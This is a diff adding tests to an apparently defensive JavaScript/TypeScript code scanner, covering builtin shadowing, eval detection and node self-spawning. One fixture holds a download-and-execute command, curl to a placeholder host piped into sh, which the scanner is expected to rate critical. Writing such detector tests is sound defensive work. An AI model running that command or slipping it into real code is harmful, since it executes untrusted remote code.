@@ -84,6 +84,7 @@ describe("JavaScript/TypeScript analysis: rules", () => {
     );
     const rules = analysis.findings.map((f) => `${f.ruleId}:${f.line}`);
     expect(rules).toContain("js.process-exec.shell-command:6");
+    expect(rules).toContain("js.code-exec.eval:9");
     expect(analysis.metrics.parseErrors).toBe(0);
     expect(analysis.metrics.functions).toBeGreaterThanOrEqual(3);
   });
@@ -123,6 +124,18 @@ describe("JavaScript/TypeScript analysis: rules", () => {
       const analysis = await js(code);
       expect(analysis.findings.find((f) => f.ruleId === ruleId)?.severity, `${code} -> ${ruleId}`).toBe(severity);
     }
+  });
+
+  it("treats the program's own functions and variables as shadowing builtins of the same name", async () => {
+    const analysis = await js(`function exec(cmd) { return cmd.length; }\nconst spawn = (x) => x * 2;\nexec(input);\nspawn(value);\nconst eval2 = eval;\n`);
+    expect(analysis.findings.filter((f) => f.category === "process-exec")).toEqual([]);
+    const snippet = await js(`execSync("curl -s http://x.example/i | sh")`);
+    expect(snippet.findings.some((f) => f.category === "download-exec" && f.severity === "critical")).toBe(true);
+  });
+
+  it("runs node itself through process.execPath as a fixed program", async () => {
+    const analysis = await js(`require("child_process").execFileSync(process.execPath, ["-e", "console.log(1)"]);`);
+    expect(analysis.findings.map((f) => `${f.ruleId}:${f.severity}`)).toEqual(["js.process-exec.spawn:medium"]);
   });
 
   it("scores a critical program as critical and a plain one as none", async () => {
